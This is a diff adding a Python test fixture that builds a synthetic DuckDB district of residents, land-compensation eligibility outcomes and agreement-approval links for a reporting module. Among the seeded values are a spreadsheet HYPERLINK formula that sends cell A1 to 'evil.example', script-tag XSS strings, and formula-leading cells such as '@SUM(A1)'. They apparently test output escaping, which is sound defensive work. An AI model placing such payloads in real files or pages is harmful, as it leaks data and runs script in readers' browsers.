@@ -1,0 +1,205 @@
+"""A made-up district of four streets with every outcome, laid on the tables that the other rooms would write."""
+
+from __future__ import annotations
+
+import random
+from datetime import date
+
+import duckdb
+import pyarrow as pa
+
+from reporting.reporting_policy import CONDITIONS, OUTCOMES, REASONS
+
+PLACES = {
+    "云桥街道": ("云桥社区", "上河社区", "石坝社区"),
+    "青禾街道": ("青禾社区", "柳湾社区"),
+    "白塔街道": ("白塔社区", "东门社区", "杨家营社区"),
+    "月湖街道": ("月湖社区",),
+}
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+HOSTILE_COMMUNITY = "<script>alert(1)</script>社区"
+EARLIEST, LATEST = date(1, 1, 1), date(9999, 12, 31)
+
+PROFILES = (
+    # outcome, reasons, clauses refuted, clauses open, assumed parameters, weight
+    ("eligible", "", "", "", "agreements_complete;most_land_line", 30),
+    ("eligible", "", "", "", "minimum_age;most_land_line", 8),
+    ("not_eligible", "most_land_lost", "most_land_lost", "", "agreements_complete;most_land_line", 9),
+    ("not_eligible", "registered_member", "registered_member", "contract_right", "", 6),
+    ("not_eligible", "not_public_staff", "not_public_staff", "", "", 2),
+    ("register", "", "adult", "", "minimum_age", 7),
+    ("manual_review", "missing_title_certificate", "", "contract_right", "", 16),
+    ("manual_review", "missing_title_certificate;shared_compensation", "", "contract_right;most_land_lost", "", 8),
+    ("manual_review", "approval_ambiguous", "", "approval_exists", "", 7),
+    ("manual_review", "shared_compensation", "", "most_land_lost", "most_land_line", 9),
+    ("manual_review", "approval_ambiguous;status_unknown", "", "approval_exists;not_public_staff", "", 3),
+    ("manual_review", "substitute_title_only", "", "contract_right", "", 4),
+    ("manual_review", "membership_disputed", "", "registered_member", "", 2),
+    ("manual_review", "identity_invalid", "", "adult", "", 1),
+)
+
+
+def a_district(persons: int = 2_000) -> duckdb.DuckDBPyConnection:
+    """A connection holding the schemas that reporting reads; the same on every call."""
+    con = duckdb.connect()
+    for schema in ("paper", "link", "fact", "verdict", "decision"):
+        con.execute(f"CREATE SCHEMA {schema}")
+    decided = _decisions(persons)
+    _lay(con, "decision.persons", decided)
+    _lay(con, "verdict.persons", [{"row_id": d["row_id"], "profile_id": d["profile_id"]} for d in decided])
+    _lay(con, "verdict.profiles", _profiles(decided))
+    _lay(con, "fact.persons", [_facts(d) for d in decided])
+    _lay(con, "paper.persons", [_paper_person(d) for d in decided])
+    _lay_reconciliation(con)
+    _lay_findings(con)
+    return con
+
+
+def _lay(con: duckdb.DuckDBPyConnection, name: str, rows: list[dict[str, object]]) -> None:
+    con.register("laid", pa.Table.from_pylist(rows))
+    con.execute(f"CREATE TABLE {name} AS SELECT * FROM laid")
+    con.unregister("laid")
+
+
+def _decisions(persons: int) -> list[dict[str, object]]:
+    dice = random.Random(20221031)
+    weights = [profile[-1] for profile in PROFILES]
+    homes = [(street, community) for street, all_of in PLACES.items() for community in all_of]
+    decided = []
+    for row in range(persons):
+        street, community = homes[row * len(homes) // persons]
+        number = dice.choices(range(len(PROFILES)), weights)[0]
+        outcome, reasons, refuted, left_open, assumed, _ = PROFILES[number]
+        named = [REASONS[code] for code in reasons.split(";") if code in REASONS]
+        decided.append(
+            {
+                "row_id": row,
+                "resident_id": f"990000{1950 + row % 55}{row % 12 + 1:02}{row % 28 + 1:02}{row % 1000:03}{row % 10}",
+                "name": f"甲{row}",
+                "household_id": f"0{row // 4:06}",
+                "street": street,
+                "community": community,
+                "group": f"第{row // 4 % 5 + 1}组",
+                "outcome": outcome,
+                "regime": "km-reform",
+                "reasons": reasons,
+                "clauses_refuted": refuted,
+                "clauses_open": left_open,
+                "missing_evidence": ";".join(sorted({doc for _, docs, _ in named for doc in docs})),
+                "settled_by": ";".join(sorted({body for _, _, bodies in named for body in bodies})),
+                "assumed_parameters": assumed,
+                "profile_id": f"p{number:03}",
+            }
+        )
+    decided[0] |= {"name": HOSTILE_NAME, "outcome": "eligible", "reasons": "", "profile_id": "p000"}
+    decided[1] |= {"name": "@SUM(A1)", "household_id": "-12", "group": "+1+2"}
+    decided[-1] |= {"community": HOSTILE_COMMUNITY, "name": "<script>alert(2)</script>"}
+    return decided
+
+
+def _profiles(decided: list[dict[str, object]]) -> list[dict[str, object]]:
+    found = []
+    for number, (outcome, reasons, refuted, left_open, assumed, _) in enumerate(PROFILES):
+        marks = {c: "refuted" if c in refuted else "open" if c in left_open else "proven" for c in CONDITIONS}
+        persons = sum(1 for d in decided if d["profile_id"] == f"p{number:03}")
+        rest = {
+            "reasons": reasons,
+            "clauses_refuted": refuted,
+            "clauses_open": left_open,
+            "assumed_parameters": assumed,
+        }
+        found.append(
+            {"profile_id": f"p{number:03}", **marks, "persons": persons, "outcome": outcome, **rest, "trace": "…"}
+        )
+    assert set(OUTCOMES) == {row["outcome"] for row in found}
+    return found
+
+
+def _facts(decided: dict[str, object]) -> dict[str, object]:
+    row = int(str(decided["row_id"]))
+    return {"row_id": row, "remaining_per_head_lo": row * 1000, "remaining_per_head_hi": row * 2000, "officer": False}
+
+
+def _paper_person(decided: dict[str, object]) -> dict[str, object]:
+    kept = {key: decided[key] for key in ("row_id", "resident_id", "household_id", "street", "community")}
+    return kept | {"state": "kept", "community_key": decided["community"]}
+
+
+def _lay_reconciliation(con: duckdb.DuckDBPyConnection) -> None:
+    lines, agreements, approvals, links = [], [], [], []
+    statuses = ("covered", "ambiguous", "covered", "uncovered", "partly", "covered", "ambiguous", "not_expropriation")
+    communities = [community for all_of in PLACES.values() for community in all_of]
+    for row in range(60):
+        status, area = statuses[row % len(statuses)], 12_345_678 + row * 1_000_001
+        low = {"covered": area, "partly": area // 3}.get(status, 0)
+        high = {"ambiguous": area * 2 // 3, "partly": low, "covered": area}.get(status, 0)
+        dated = (date(2012, 3, 5), date(2014, 6, 1)) if high else (EARLIEST, LATEST)
+        place = communities[row % len(communities)]
+        lines.append(
+            {
+                "row_id": row,
+                "agreement_no": f"协{row:03}",
+                "agreement_key": f"a{row:03}",
+                "land_class": "farmland",
+                "community": place,
+                "group_name": f"第{row % 5 + 1}组",
+                "kind": "lease" if status == "not_expropriation" else "expropriation",
+                "area_umu": area,
+                "covered_umu_min": low,
+                "covered_umu_max": high,
+                "approved_lo": dated[0],
+                "approved_hi": dated[1],
+                "status": status,
+            }
+        )
+        agreements.append({"agreement_key": f"a{row:03}", "community_key": place})
+        approvals.append({"row_id": 59 - row, "approval_key": f"b{row:03}"})
+        links += [_link(row, partner, low, high) for partner in ((row, (row + 1) % 60) if high else ())]
+    _lay(con, "link.coverage", lines)
+    _lay(con, "link.links", list(reversed(links)))
+    _lay(con, "paper.agreements", agreements)
+    _lay(con, "paper.approvals", approvals)
+
+
+def _link(row: int, partner: int, low: int, high: int) -> dict[str, object]:
+    return {
+        "agreement_key": f"a{row:03}",
+        "agreement_no": f"协{row:03}",
+        "land_class": "farmland",
+        "approval_no": f"云国土资复〔2012〕{partner}号",
+        "approval_key": f"b{partner:03}",
+        "area_umu_min": low if partner == row else 0,
+        "area_umu_max": high,
+        "certainty": "certain" if low and partner == row else "possible",
+        "score": 0.75,
+        "evidence": "地点相符；面积相等",
+        "component": row,
+    }
+
+
+def _lay_findings(con: duckdb.DuckDBPyConnection) -> None:
+    from eligibility.domain.tables import TABLES
+
+    absent = {"persons": {"officer"}}
+    _lay(
+        con,
+        "paper.tables",
+        [
+            {
+                "table_name": table.key,
+                "present": table.key != "confirmations",
+                "columns": [c.key for c in table.columns if c.key not in absent.get(table.key, ())],
+            }
+            for table in TABLES
+        ],
+    )
+    found = (
+        ("agreements", "协议.xlsx", "Sheet1", 9, "area", "-3.5", "bad_number", False),
+        ("agreements", "协议.xlsx", "Sheet1", 4, "area", "=1+1", "bad_number", False),
+        ("persons", "花名册.csv", "", 12, "member_from", "去年", "bad_date", True),
+        ("persons", "花名册.csv", "", 12, "resident_id", "99000019700101001", "identity_invalid", True),
+        ("persons", "花名册.csv", "", 700, "", "", "duplicate_row", False),
+    )
+    keys = ("table_name", "file", "sheet", "row", "col", "value", "code", "kept")
+    said = {"problem": "读不出", "remedy": "请核对原件", "problem_en": "unreadable", "remedy_en": "check the paper"}
+    _lay(con, "paper.quarantine", [dict(zip(keys, row, strict=True)) | said for row in found])
